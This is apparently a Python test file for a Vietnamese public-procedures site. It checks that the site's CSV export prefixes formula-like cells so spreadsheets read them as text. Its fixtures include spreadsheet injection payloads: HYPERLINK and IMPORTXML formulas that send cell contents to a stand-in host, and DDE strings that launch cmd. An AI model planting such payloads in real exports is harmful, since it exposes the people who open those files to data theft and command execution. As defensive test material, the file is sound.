"""api/tthc.csv is safe to open in a spreadsheet: no cell is read as a formula."""

from __future__ import annotations

import csv
import io
import shutil

from conftest import build_site
from factory import REPO, tthc_meta, write_doc

from eiso.sites.public import safe_cell

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "applicants": "\t=1+1",  # a tab is allowed in multi-line text, so it reaches the export
    "result": "+cmd|' /C notepad'!A0",
    "level": "-2+3+cmd|' /C calc'!A0",
    "field": "=1+1",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _public_repo(repo):
    shutil.copy(REPO / "mkdocs.public.yml", repo / "mkdocs.public.yml")
    (repo / "docs-public").mkdir()
    (repo / "docs-public" / "index.md").write_text("# Thủ tục\n", encoding="utf-8")
    meta = tthc_meta(code="QT-CSV", title=FORMULAS["title"], field=FORMULAS["field"])
    meta["tthc"].update(agency=FORMULAS["agency"], applicants=FORMULAS["applicants"], result=FORMULAS["result"],
                        level=FORMULAS["level"])
    meta["tthc"]["dossier"][0]["name"] = "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")"
    meta["legal_basis"] = [{"code": "", "title": "@MAX(1,2)"}]
    write_doc(repo, "tthc/csv.md", meta)


def test_formula_cells_are_prefixed_and_read_back_as_text(repo):
    _public_repo(repo)
    _, site = build_site(repo, "--public", site="public")
    raw = (site / "api" / "tthc.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    row = next(r for r in rows if r["code"] == "QT-CSV")
    for key, value in FORMULAS.items():
        if key in row:
            assert row[key] == "'" + value, key
    assert row["dossier"].startswith("'=IMPORTXML(")
    assert row["legal_basis"] == "'@MAX(1,2)"
    for r in rows:
        for name, cell in r.items():
            assert not cell.startswith(STARTS), (name, cell)
    # The ordinary procedure is untouched.
    plain = next(r for r in rows if r["code"] == "QT-HT-01")
    assert plain["title"] == "Đăng ký khai sinh" and plain["agency"] == "UBND cấp xã"


def test_safe_cell_spellings():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("  =1+1") == "'  =1+1"  # spaces before the sign do not hide it
    assert safe_cell("＝1+1") == "'＝1+1"  # full-width equals sign
    assert safe_cell("-") == "'-"
    assert safe_cell("\n=1") == "'\n=1" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("Miễn phí") == "Miễn phí" and safe_cell("1.001193") == "1.001193" and safe_cell("") == ""
